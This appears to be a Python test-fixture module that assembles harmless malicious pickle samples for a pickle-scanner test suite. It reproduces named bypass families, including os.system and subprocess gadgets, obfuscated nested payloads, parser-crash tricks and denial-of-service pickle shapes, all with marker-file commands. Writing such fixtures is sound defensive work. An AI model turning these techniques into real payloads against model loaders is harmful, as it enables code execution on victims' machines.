"""Builders of *harmless* malicious pickle samples, as bytes.

Every sample is built with ``pickle.dumps`` of an object whose ``__reduce__`` names a
gadget, or assembled opcode by opcode.  Nothing here ever loads a pickle.  The
payloads only echo a marker or touch ``/tmp/modelxray_marker_<tag>``; the tests assert
those files never appear.

``SAMPLES`` maps a sample id to a :class:`Sample` naming the bypass family of
``shared/research/pickle-scanners.md`` (T-01 ... T-38) it reproduces and the
dangerous global the scanner must name in a critical verdict item.
"""

from __future__ import annotations

import base64
import codecs
import functools
import marshal
import os
import pickle
import struct
import zlib
from dataclasses import dataclass

MARKER = "MODELXRAY_MARKER"
MARKER_GLOB = "/tmp/modelxray_marker_*"


def marker_path(tag: str) -> str:
    return f"/tmp/modelxray_marker_{tag}"


def cmd(tag: str) -> str:
    return f"echo {MARKER} > {marker_path(tag)}"


PY = f"open({marker_path('py')!r}, 'w').write({MARKER!r})"


class Payload:
    """An object that pickles as ``os.system('echo MODELXRAY_MARKER > <prefix><tag>')`` (the
    real pickler writes it; it is never loaded).  Test modules subclass it with their prefix."""

    prefix = "/tmp/modelxray_marker_"

    def __init__(self, tag: str) -> None:
        self.tag = tag

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (f"echo {MARKER} > {self.prefix}{self.tag}",))


# --------------------------------------------------------------------------- opcodes

PROTO = b"\x80"
STOP = b"."
MARK = b"("
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
OBJ = b"o"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
SETITEM = b"s"
SETITEMS = b"u"
APPEND = b"a"
NONE = b"N"
NEWTRUE = b"\x88"
BINPERSID = b"Q"


def u(s: str) -> bytes:
    """Push a str (SHORT_BINUNICODE / BINUNICODE)."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def by(data: bytes) -> bytes:
    """Push bytes (SHORT_BINBYTES / BINBYTES)."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def binint1(n: int) -> bytes:
    return b"K" + bytes([n])


def binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def binput(n: int) -> bytes:
    return b"q" + bytes([n])


def binget(n: int) -> bytes:
    return b"h" + bytes([n])


def sg(module: str, name: str) -> bytes:
    return u(module) + u(name) + STACK_GLOBAL


def glob(module: str, name: str) -> bytes:
    """Protocol-0 text GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def string0(s: str) -> bytes:
    """Protocol-0 quoted STRING."""
    return b"S" + repr(s).encode() + b"\n"


def unicode0(s: str) -> bytes:
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def p4(body: bytes) -> bytes:
    return PROTO + b"\x04" + body + STOP


def p2(body: bytes) -> bytes:
    return PROTO + b"\x02" + body + STOP


def call1(module: str, name: str, arg: object) -> bytes:
    return p4(sg(module, name) + push(arg) + TUPLE1 + REDUCE)


def push(v: object) -> bytes:
    """Push a simple constant (str, bytes, int, None, bool, tuple of those)."""
    if isinstance(v, str):
        return u(v)
    if isinstance(v, bytes):
        return by(v)
    if v is None:
        return NONE
    if v is True:
        return NEWTRUE
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        return binint(v)
    if isinstance(v, tuple):
        return MARK + b"".join(push(x) for x in v) + TUPLE
    raise TypeError(type(v))


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


# --------------------------------------------------------------------------- reducers


class Reduce:
    """An object whose pickling is exactly ``func(*args)`` (``state`` → BUILD)."""

    def __init__(self, func: object, args: tuple[object, ...], state: object = None) -> None:
        self.func = func
        self.args = args
        self.state = state

    def __reduce__(self) -> tuple[object, ...]:
        if self.state is None:
            return (self.func, self.args)
        return (self.func, self.args, self.state)


def dumps_reduce(func: object, args: tuple[object, ...], protocol: int = 4) -> bytes:
    return pickle.dumps(Reduce(func, args), protocol=protocol)


# --------------------------------------------------------------------------- samples


@dataclass(frozen=True)
class Sample:
    data: bytes
    family: str
    expect: str  # dangerous global (dotted) that must appear in a critical item
    note: str = ""
    broken: bool = False  # the stream is intentionally malformed after the payload


def _code_args() -> tuple[object, ...]:
    co = compile(PY, "<marker>", "exec")
    return (
        co.co_argcount,
        co.co_posonlyargcount,
        co.co_kwonlyargcount,
        co.co_nlocals,
        co.co_stacksize,
        co.co_flags,
        co.co_code,
        co.co_consts,
        co.co_names,
        co.co_varnames,
        co.co_filename,
        co.co_name,
        co.co_qualname,
        co.co_firstlineno,
        co.co_linetable,
        co.co_exceptiontable,
        co.co_freevars,
        co.co_cellvars,
    )


def _inner(tag: str) -> bytes:
    return call1("posix", "system", cmd(tag))


def _frame_divergence() -> bytes:
    """python/cpython#154848: FRAME of 2 bytes, BINBYTES claims 0x107 bytes.

    A linear reader (pickletools, older C unpickler from memory) sees one bytes string;
    an older C unpickler reading a file without peek() discards the frame rest and runs
    the hidden GLOBAL/REDUCE; CPython >= 3.13.15 rejects the pickle.
    """
    hidden = glob("posix", "system") + unicode0(cmd("frame")) + TUPLE1 + REDUCE
    body = PROTO + b"\x05" + NONE
    body += b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP
    body += MARK + b"\x95" + struct.pack("<Q", 2)
    body += b"B" + b"\x07\x01\x00\x00"
    body += b"\x00" + b"\x00" + (hidden + MARK).ljust(256 + 5, NONE) + POP_MARK
    body += STOP
    return body


def _planting() -> bytes:
    """T-10: BUILD plants numpy.prod.a='os', .b='system', then dotted GLOBALs read them."""
    body = (
        sg("numpy", "prod")
        + MARK
        + u("a")
        + u("os")
        + u("b")
        + u("system")
        + b"d"  # DICT
        + BUILD
        + POP
        + sg("numpy", "prod.a")
        + binput(0)
        + POP
        + sg("numpy", "prod.b")
        + binput(1)
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + u(cmd("plant"))
        + TUPLE1
        + REDUCE
    )
    return p4(body)


def build_samples() -> dict[str, Sample]:
    s: dict[str, Sample] = {}
    c = cmd

    # --- baseline: os.system via __reduce__, every protocol ---
    for proto in range(6):
        s[f"t01_system_p{proto}"] = Sample(
            dumps_reduce(os.system, (f"echo {MARKER}",), proto), "T-00", "posix.system"
        )
    s["t02_global_text"] = Sample(
        glob("os", "system") + MARK + string0(c("t02")) + TUPLE + REDUCE + STOP,
        "T-19",
        "os.system",
        "protocol 0 text GLOBAL",
    )
    s["t02b_inst"] = Sample(
        MARK + unicode0(c("t02b")) + b"i" + b"os\nsystem\n" + STOP, "T-19", "os.system", "INST"
    )
    s["t03_pip_main"] = Sample(
        p4(sg("pip", "main") + MARK + u("--version") + b"l" + TUPLE1 + REDUCE),
        "T-01",
        "pip.main",
    )

    # --- T-02 unlisted gadget families ---
    gadgets = {
        "timeit": ("timeit", "timeit", PY),
        "cprofile": ("cProfile", "run", PY),
        "profile": ("profile", "run", PY),
        "trace": ("trace", "Trace.run", PY),
        "bdb": ("bdb", "Bdb.run", PY),
        "code": ("code", "InteractiveInterpreter.runcode", PY),
        "doctest": ("doctest", "debug_script", PY),
        "runpy": ("runpy", "_run_code", PY),
        "np_runstring": ("numpy.testing._private.utils", "runstring", PY),
        "pydoc_pipepager": ("pydoc", "pipepager", "x"),
        "venv": ("venv", "create", marker_path("venv")),
        "logging_fh": ("logging", "FileHandler", marker_path("log")),
        "io_fileio": ("_io", "FileIO", marker_path("fileio")),
        "ctypes": ("ctypes", "CDLL", "libc.so.6"),
        "pty": ("pty", "spawn", "true"),
        "ssl": ("ssl", "get_server_certificate", ("127.0.0.1", 9)),
        "urlopen": ("urllib.request", "urlopen", "http://127.0.0.1:9/"),
        "inductor": ("torch._inductor.codecache", "compile_file", PY),
        "collect_env": ("torch.utils.collect_env", "run", c("collect_env")),
        "jit_exec": ("torch.jit.unsupported_tensor_ops", "execWrapper", PY),
        "dynamo": ("torch._dynamo.guards", "GuardBuilder.get", PY),
        "distutils": ("distutils.file_util", "write_file", marker_path("distutils")),
        "open": ("builtins", "open", marker_path("open")),
        "eval": ("builtins", "eval", PY),
        "exec": ("builtins", "exec", PY),
        "compile": ("builtins", "compile", PY),
        "breakpoint": ("builtins", "breakpoint", ()),
        "shutil": ("shutil", "rmtree", marker_path("rmtree")),
        "subprocess": ("subprocess", "getoutput", c("subprocess")),
        "popen": ("os", "popen", c("popen")),
        "nt_system": ("nt", "system", c("nt")),
        "tempfile": ("tempfile", "mkstemp", ()),
        "socket": ("socket", "create_connection", ("127.0.0.1", 9)),
    }
    for tag, (mod, name, arg) in gadgets.items():
        s[f"t02_{tag}"] = Sample(call1(mod, name, arg), "T-02", f"{mod}.{name}")

    # --- T-03 hidden subprocess helpers ---
    s["t03_uuid"] = Sample(
        p4(sg("uuid", "_get_command_stdout") + u("sh") + u("-c") + u(c("uuid")) + TUPLE3 + REDUCE),
        "T-03",
        "uuid._get_command_stdout",
    )
    s["t03_imaplib"] = Sample(
        call1("imaplib", "IMAP4_stream", c("imap")), "T-03", "imaplib.IMAP4_stream"
    )
    s["t03_osx"] = Sample(
        call1("_osx_support", "_read_output", c("osx")), "T-03", "_osx_support._read_output"
    )
    s["t03_aix"] = Sample(
        call1("_aix_support", "_read_cmd_output", c("aix")), "T-03", "_aix_support._read_cmd_output"
    )
    s["t03_pyrepl"] = Sample(
        call1("_pyrepl.pager", "pipe_pager", "x"), "T-03", "_pyrepl.pager.pipe_pager"
    )
    s["t03_test_support"] = Sample(
        call1("test.support.script_helper", "assert_python_ok", PY),
        "T-03",
        "test.support.script_helper.assert_python_ok",
    )

    # --- T-04 universal resolvers ---
    s["t04_resolve_name"] = Sample(
        p4(
            sg("pkgutil", "resolve_name")
            + u("os:system")
            + TUPLE1
            + REDUCE
            + u(c("resolve"))
            + TUPLE1
            + REDUCE
        ),
        "T-04",
        "pkgutil.resolve_name",
    )
    s["t04_getattr_import_module"] = Sample(
        p4(
            sg("builtins", "getattr")
            + sg("importlib", "import_module")
            + u("os")
            + TUPLE1
            + REDUCE
            + u("system")
            + TUPLE2
            + REDUCE
            + u(c("getattr"))
            + TUPLE1
            + REDUCE
        ),
        "T-04",
        "builtins.getattr",
    )
    s["t04_dunder_import"] = Sample(
        p4(
            sg("builtins", "getattr")
            + sg("builtins", "__import__")
            + u("os")
            + TUPLE1
            + REDUCE
            + u("system")
            + TUPLE2
            + REDUCE
            + u(c("import"))
            + TUPLE1
            + REDUCE
        ),
        "T-04",
        "builtins.__import__",
    )
    s["t04_methodcaller_locate"] = Sample(
        p4(
            sg("operator", "methodcaller")
            + u("system")
            + u(c("methodcaller"))
            + TUPLE2
            + REDUCE
            + sg("pydoc", "locate")
            + u("os")
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-04",
        "operator.methodcaller",
    )
    s["t04_partial"] = Sample(
        dumps_reduce(functools.partial(os.system, c("partial")), ()), "T-04", "functools.partial"
    )
    s["t04_attrgetter"] = Sample(
        p4(
            sg("operator", "attrgetter")
            + u("system")
            + TUPLE1
            + REDUCE
            + sg("builtins", "__import__")
            + u("os")
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
            + u(c("attrgetter"))
            + TUPLE1
            + REDUCE
        ),
        "T-04",
        "operator.attrgetter",
    )

    # --- T-05 code objects ---
    code_args = pickle.dumps(_code_args(), protocol=2)[2:-1]
    s["t05_codetype"] = Sample(
        p2(glob("types", "CodeType") + code_args + REDUCE), "T-05", "types.CodeType"
    )
    code_bytes = marshal.dumps(compile(PY, "<marker>", "exec"))
    s["t05_marshal"] = Sample(
        p4(
            sg("types", "FunctionType")
            + sg("marshal", "loads")
            + by(code_bytes)
            + TUPLE1
            + REDUCE
            + EMPTY_DICT
            + TUPLE2
            + REDUCE
            + EMPTY_TUPLE
            + REDUCE
        ),
        "T-05",
        "marshal.loads",
    )
    s["t05_cloudpickle_make_function"] = Sample(
        call1("cloudpickle.cloudpickle", "_make_function", PY),
        "T-05",
        "cloudpickle.cloudpickle._make_function",
    )
    s["t05_dill_create_code"] = Sample(
        call1("dill._dill", "_create_code", PY), "T-05", "dill._dill._create_code"
    )

    # --- T-06 private / unusual stdlib ---
    s["t06_subinterp"] = Sample(
        p4(sg("_xxsubinterpreters", "create") + EMPTY_TUPLE + REDUCE),
        "T-06",
        "_xxsubinterpreters.create",
    )
    s["t06_spawnv_passfds"] = Sample(
        p4(
            sg("multiprocessing.util", "spawnv_passfds")
            + u("/bin/sh")
            + MARK
            + u("sh")
            + u("-c")
            + u(c("spawnv"))
            + b"l"
            + EMPTY_TUPLE
            + TUPLE3
            + REDUCE
        ),
        "T-06",
        "multiprocessing.util.spawnv_passfds",
    )
    s["t06_posixsubprocess"] = Sample(
        call1("_posixsubprocess", "fork_exec", c("fork")), "T-06", "_posixsubprocess.fork_exec"
    )
    s["t06_atexit"] = Sample(call1("atexit", "register", PY), "T-06", "atexit.register")
    s["t06_platform"] = Sample(call1("platform", "popen", c("platform")), "T-06", "platform.popen")

    # --- T-07 third-party gadgets ---
    s["t07_pandas_read_csv"] = Sample(
        call1("pandas.io.parsers.readers", "read_csv", "http://127.0.0.1:9/marker.csv"),
        "T-07",
        "pandas.io.parsers.readers.read_csv",
    )
    s["t07_torch_load_file"] = Sample(
        call1("torch.serialization", "load", "other_model.bin"), "T-07", "torch.serialization.load"
    )
    s["t07_mlflow"] = Sample(
        call1("mlflow.projects.backend.local", "_run_entry_point", c("mlflow")),
        "T-07",
        "mlflow.projects.backend.local._run_entry_point",
    )

    # --- T-08 submodule of a listed module ---
    s["t08_asyncio_submodule"] = Sample(
        p4(
            sg("asyncio.unix_events", "_UnixSubprocessTransport._start")
            + MARK
            + EMPTY_DICT
            + u(c("asyncio"))
            + NEWTRUE
            + NONE
            + NONE
            + NONE
            + binint1(0)
            + TUPLE
            + REDUCE
        ),
        "T-08",
        "asyncio.unix_events._UnixSubprocessTransport._start",
    )

    # --- T-09 dotted attribute paths ---
    s["t09_pathlib_dotted"] = Sample(
        call1("pathlib", "os.system", c("dotted")), "T-09", "pathlib.os.system"
    )
    s["t09_pathlib_text_global"] = Sample(
        PROTO
        + b"\x04"
        + glob("pathlib", "os.system")
        + u(c("dotted_text"))
        + TUPLE1
        + REDUCE
        + STOP,
        "T-09",
        "pathlib.os.system",
    )
    s["t09_torch_chain"] = Sample(
        call1("torch", "serialization.os.system", c("torchchain")),
        "T-09",
        "torch.serialization.os.system",
    )
    s["t09_subclasses"] = Sample(
        p4(sg("builtins", "print.__class__.__base__.__subclasses__") + EMPTY_TUPLE + REDUCE),
        "T-09",
        "builtins.print.__class__.__base__.__subclasses__",
    )

    # --- T-10 BUILD attribute planting ---
    s["t10_planting"] = Sample(_planting(), "T-10", "numpy.prod")
    s["t10_planting_resolves"] = Sample(_planting(), "T-10", "os.system")
    s["t10_numpy_builtins"] = Sample(
        p4(
            sg("numpy", "size")
            + EMPTY_DICT
            + u("shape")
            + sg("numpy", "__builtins__")
            + SETITEM
            + BUILD
            + POP
            + NONE
        ),
        "T-10",
        "numpy.__builtins__",
    )

    # --- T-11 / T-12 memo tricks ---
    s["t11_memo_indirection"] = Sample(
        p4(
            u("os")
            + binput(2)
            + POP
            + u("system")
            + binput(3)
            + POP
            + u("torch")
            + binput(0)
            + POP
            + u("LongStorage")
            + binput(1)
            + POP
            + binget(2)
            + binget(3)
            + STACK_GLOBAL
            + u(c("memo"))
            + TUPLE1
            + REDUCE
        ),
        "T-11",
        "os.system",
    )
    s["t11_memo_text"] = Sample(
        unicode0("os")
        + b"p2\n"
        + POP
        + unicode0("system")
        + b"p3\n"
        + POP
        + b"g2\n"
        + b"g3\n"
        + STACK_GLOBAL
        + unicode0(c("memo_text"))
        + TUPLE1
        + REDUCE
        + STOP,
        "T-11",
        "os.system",
    )
    s["t12_memo_spoof"] = Sample(
        p4(
            u("os")
            + u("x")
            + POP
            + MEMOIZE
            + u("system")
            + u("y")
            + POP
            + MEMOIZE
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + u(c("spoof"))
            + TUPLE1
            + REDUCE
        ),
        "T-12",
        "os.system",
    )
    s["t12_dup_spoof"] = Sample(
        p4(
            u("os")
            + DUP
            + POP
            + MEMOIZE
            + POP
            + u("system")
            + MEMOIZE
            + POP
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + u(c("dup"))
            + TUPLE1
            + REDUCE
        ),
        "T-12",
        "os.system",
    )

    # --- T-13 STRING operands, no PROTO ---
    s["t13_string_operands"] = Sample(
        string0("os")
        + string0("system")
        + STACK_GLOBAL
        + string0(c("string"))
        + TUPLE1
        + REDUCE
        + STOP,
        "T-13",
        "os.system",
    )

    # --- T-14 crash the parser after the payload ---
    s["t14_memo_miss_after"] = Sample(
        PROTO
        + b"\x04"
        + glob("os", "system")
        + unicode0(c("t14"))
        + TUPLE1
        + REDUCE
        + POP
        + u("os")
        + MEMOIZE
        + binget(3)
        + binget(0)
        + STACK_GLOBAL
        + binint1(0x42)
        + STOP,
        "T-14",
        "os.system",
        broken=True,
    )
    s["t14_type_confusion"] = Sample(
        PROTO
        + b"\x04"
        + glob("os", "system")
        + unicode0(c("t14b"))
        + TUPLE1
        + REDUCE
        + POP
        + binint(42)
        + MEMOIZE
        + u("os")
        + MEMOIZE
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + STOP,
        "T-14",
        "os.system",
        broken=True,
    )

    # --- T-15 broken stream after the payload ---
    s["t15_broken_junk"] = Sample(
        PROTO
        + b"\x02"
        + glob("builtins", "exec")
        + unicode0(PY)
        + TUPLE1
        + REDUCE
        + b"\xff\xfe junk",
        "T-15",
        "builtins.exec",
        broken=True,
    )
    s["t15_broken_no_stop"] = Sample(
        glob("builtins", "exec")
        + MARK
        + b"X"
        + struct.pack("<I", len(PY))
        + PY.encode()
        + TUPLE
        + REDUCE
        + b"X",
        "T-15",
        "builtins.exec",
        broken=True,
    )
    s["t15_truncated"] = Sample(
        dumps_reduce(os.system, (c("trunc"),))[:-1], "T-15", "posix.system", broken=True
    )

    # --- T-16 stacked pickles ---
    s["t16_stacked"] = Sample(
        pickle.dumps(["a", "b"], 2) + _inner("stacked"), "T-16", "posix.system"
    )
    s["t16_three_stacked"] = Sample(
        pickle.dumps(1, 2) + pickle.dumps({}, 4) + pickle.dumps([], 0) + _inner("stacked3"),
        "T-16",
        "posix.system",
    )

    # --- T-17 FRAME boundary divergence ---
    s["t17_frame_divergence"] = Sample(_frame_divergence(), "T-17", "posix.system")

    # --- T-18 OBJ call discarded by POP ---
    s["t18_obj_pop"] = Sample(
        p4(MARK + sg("smtplib", "SMTP") + OBJ + POP + NONE), "T-18", "smtplib.SMTP"
    )

    # --- T-19 INST / OBJ / NEWOBJ / NEWOBJ_EX / EXT ---
    s["t19_obj"] = Sample(
        p4(MARK + sg("posix", "system") + u(c("obj")) + OBJ), "T-19", "posix.system"
    )
    s["t19_newobj"] = Sample(
        p4(sg("subprocess", "Popen") + u(c("newobj")) + TUPLE1 + NEWOBJ),
        "T-19",
        "subprocess.Popen",
    )
    s["t19_newobj_ex"] = Sample(
        p4(
            sg("subprocess", "Popen")
            + u(c("newobj_ex"))
            + TUPLE1
            + EMPTY_DICT
            + u("shell")
            + NEWTRUE
            + SETITEM
            + NEWOBJ_EX
        ),
        "T-19",
        "subprocess.Popen",
    )
    s["t19_ext_registered_by_setitem"] = Sample(
        p4(
            sg("copyreg", "_inverted_registry")
            + binint1(0x42)
            + u("posix")
            + u("system")
            + TUPLE2
            + SETITEM
            + POP
            + b"\x82\x42"
            + u(c("ext"))
            + TUPLE1
            + REDUCE
        ),
        "T-19",
        "posix.system",
    )
    s["t19_ext_add_extension"] = Sample(
        p4(
            sg("copyreg", "add_extension")
            + u("posix")
            + u("system")
            + binint1(0x43)
            + TUPLE3
            + REDUCE
            + POP
            + b"\x82\x43"
            + u(c("ext2"))
            + TUPLE1
            + REDUCE
        ),
        "T-19",
        "copyreg.add_extension",
    )
    s["t19_reconstructor_base"] = Sample(
        p4(
            sg("copyreg", "_reconstructor")
            + sg("collections", "OrderedDict")
            + sg("subprocess", "Popen")
            + u(c("reconstructor"))
            + TUPLE3
            + REDUCE
        ),
        "T-19",
        "subprocess.Popen",
    )

    # --- T-35 nested payloads ---
    inner = _inner("nested")
    s["t35_pickle_loads"] = Sample(call1("pickle", "loads", inner), "T-35", "pickle.loads")
    s["t35_nested_inner_call"] = Sample(call1("pickle", "loads", inner), "T-35", "posix.system")
    s["t35_base64"] = Sample(
        p4(
            sg("pickle", "loads")
            + sg("base64", "b64decode")
            + u(base64.b64encode(inner).decode())
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "posix.system",
    )
    s["t35_zlib_base64"] = Sample(
        p4(
            sg("_pickle", "loads")
            + sg("zlib", "decompress")
            + sg("codecs", "decode")
            + u(base64.b64encode(zlib.compress(inner)).decode())
            + u("base64")
            + TUPLE2
            + REDUCE
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "posix.system",
    )
    s["t35_torch_load_bytesio"] = Sample(
        p4(
            sg("torch", "load")
            + sg("io", "BytesIO")
            + by(inner)
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "posix.system",
    )
    s["t35_latin1_str"] = Sample(
        p4(
            sg("pickle", "loads")
            + sg("_codecs", "encode")
            + u(inner.decode("latin-1"))
            + u("latin1")
            + TUPLE2
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "posix.system",
    )
    s["t35_double_nested"] = Sample(
        call1("pickle", "loads", call1("dill", "loads", inner)), "T-35", "posix.system"
    )
    s["t35_load_from_bytes"] = Sample(
        call1("torch.storage", "_load_from_bytes", inner), "T-35", "posix.system"
    )
    s["t35_exec_source"] = Sample(
        p4(
            sg("builtins", "exec")
            + sg("base64", "b64decode")
            + u(base64.b64encode(PY.encode()).decode())
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "builtins.exec",
    )
    s["t35_reduce_dumps"] = Sample(dumps_reduce(pickle.loads, (inner,)), "T-35", "posix.system")
    s["t35_rot13_codecs"] = Sample(
        p4(
            sg("pickle", "loads")
            + sg("codecs", "decode")
            + by(codecs.encode(inner, "hex"))
            + u("hex")
            + TUPLE2
            + REDUCE
            + TUPLE1
            + REDUCE
        ),
        "T-35",
        "posix.system",
    )

    # --- T-38 sleepy pickle: patch a model class in memory ---
    s["t38_setattr_forward"] = Sample(
        p4(
            sg("builtins", "setattr")
            + sg("torch.nn.modules.linear", "Linear")
            + u("forward")
            + sg("builtins", "print")
            + TUPLE3
            + REDUCE
        ),
        "T-38",
        "builtins.setattr",
    )
    s["t38_build_on_class"] = Sample(
        p4(
            sg("torch.nn.modules.linear", "Linear")
            + EMPTY_DICT
            + u("forward")
            + sg("builtins", "print")
            + SETITEM
            + BUILD
        ),
        "T-38",
        "torch.nn.modules.linear.Linear",
    )
    s["t38_sys_path_append"] = Sample(
        p4(sg("sys", "path") + u("/tmp/modelxray_marker_dir") + APPEND), "T-38", "sys.path"
    )
    return s


SAMPLES: dict[str, Sample] = build_samples()


# --------------------------------------------------------------------------- DoS shapes


def billion_laughs(levels: int = 30) -> bytes:
    """Each level is a list holding the previous one twice (memo reuse): tiny, huge if expanded."""
    body = EMPTY_LIST + MEMOIZE
    for k in range(levels):
        body += EMPTY_LIST + MEMOIZE + binget(k) + APPEND + binget(k) + APPEND
    return p4(body)


def self_referencing_list() -> bytes:
    return b"\x80\x02]\x94h\x00a."


def deep_nesting(depth: int = 200_000) -> bytes:
    return p4(EMPTY_TUPLE + TUPLE1 * depth)


def many_marks(n: int = 100_000) -> bytes:
    return p4(MARK * n + NONE)
